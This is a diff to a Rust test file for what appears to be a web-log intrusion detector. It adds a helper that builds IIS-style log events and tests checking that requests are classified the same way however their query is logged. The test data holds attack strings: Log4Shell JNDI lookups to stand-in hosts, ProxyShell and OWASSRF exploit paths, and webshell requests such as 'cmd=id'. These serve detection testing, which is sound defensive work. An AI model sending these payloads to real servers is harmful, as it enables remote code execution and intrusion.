@@ -80,26 +80,78 @@ fn outcome(acts: impl IntoIterator<Item = Option<ServerAct>>, reads: &[AccountAc
 
 const SHELL: &str = r"C:\inetpub\wwwroot\aspnet_client\sys\err.aspx";
 
+/// A request as logs write it that have path and query in one.
+fn request_in_one(
+    method: &'static str,
+    target: &'static str,
+    client: &'static str,
+    status: &'static str,
+) -> Option<ServerAct> {
+    let mut event = Event::new(Class::HTTP_ACTIVITY, at(1), Position { offset: 1, record: 1 });
+    event.source.product = "webserver";
+    let stem = target.split(['?', '#']).next().unwrap_or(target);
+    for (name, value, column) in [
+        ("cs-method", method, Some(Column::Action)),
+        ("cs-uri-stem", stem, None),
+        ("cs-uri-query", target, Some(Column::Url)),
+        ("c-ip", client, Some(Column::SrcIp)),
+        ("sc-status", status, Some(Column::Status)),
+        ("s-ip", "192.0.2.25", Some(Column::DstIp)),
+        ("cs(Referer)", "-", None),
+    ] {
+        if let Some(column) = column {
+            event.columns.set_first(column, event.fields.len());
+        }
+        event.fields.push(Field::new(name, value));
+    }
+    extract::act(evidence(), &event, &mut String::new())
+}
+
 #[test]
 fn a_page_is_the_same_page_whichever_way_its_query_is_logged() {
     let apart = request(1, "POST", "/uploads/x.php", "cmd=id", INTRUDER, "200").unwrap();
-    let in_one = request(
-        1,
-        "POST",
-        "/uploads/x.php?cmd=id",
-        "/uploads/x.php?cmd=id",
-        INTRUDER,
-        "200",
-    );
     assert_eq!(apart.kind, Kind::OddPageAsked);
     assert_eq!(apart.what, "/uploads/x.php");
+    assert_eq!(apart.detail, "POST /uploads/x.php?cmd=id, answered 200");
+    let in_one = request_in_one("POST", "/uploads/x.php?cmd=id", INTRUDER, "200");
     assert_eq!(in_one, Some(apart));
 
-    let asked = |path, query| request(1, "GET", path, query, INTRUDER, "404").unwrap().detail;
     let told = "GET /a?q=${jndi:ldap://x.example/a}, answered 404";
-    assert_eq!(asked("/a", "q=${jndi:ldap://x.example/a}"), told);
-    let whole = "/a?q=${jndi:ldap://x.example/a}";
-    assert_eq!(asked(whole, whole), told);
+    let apart = request(1, "GET", "/a", "q=${jndi:ldap://x.example/a}", INTRUDER, "404");
+    let in_one = request_in_one("GET", "/a?q=${jndi:ldap://x.example/a}", INTRUDER, "404");
+    assert_eq!(apart.as_ref().map(|act| act.detail.as_str()), Some(told));
+    assert_eq!(in_one, apart);
+}
+
+#[test]
+fn nothing_of_a_request_is_left_out() {
+    let what = |act: Option<ServerAct>| act.map(|act| act.what);
+    let proxyshell = "/autodiscover/autodiscover.json?@evil.example/owa/";
+    for (path, query, id) in [
+        ("/x#${jndi:ldap://e/a}", "q=1", "log4shell"),
+        ("/$", "/${jndi:ldap://e/a}", "log4shell"),
+        (proxyshell, "a=1", "proxyshell"),
+        ("/owa/a#@x.example/powershell", "-", "owassrf"),
+    ] {
+        let told = what(request(1, "GET", path, query, INTRUDER, "404"));
+        assert_eq!(told.as_deref(), Some(id), "{path} {query}");
+    }
+    for (target, id) in [
+        ("/x#${jndi:ldap://e/a}?q=1", "log4shell"),
+        (proxyshell, "proxyshell"),
+        ("/owa/a#@x.example/powershell", "owassrf"),
+    ] {
+        assert_eq!(
+            what(request_in_one("GET", target, INTRUDER, "404")).as_deref(),
+            Some(id),
+            "{target}"
+        );
+    }
+    let page = "/aspnet_client/x#.aspx";
+    assert_eq!(
+        what(request(1, "POST", page, "-", INTRUDER, "200")).as_deref(),
+        Some(page)
+    );
 }
 
 #[test]
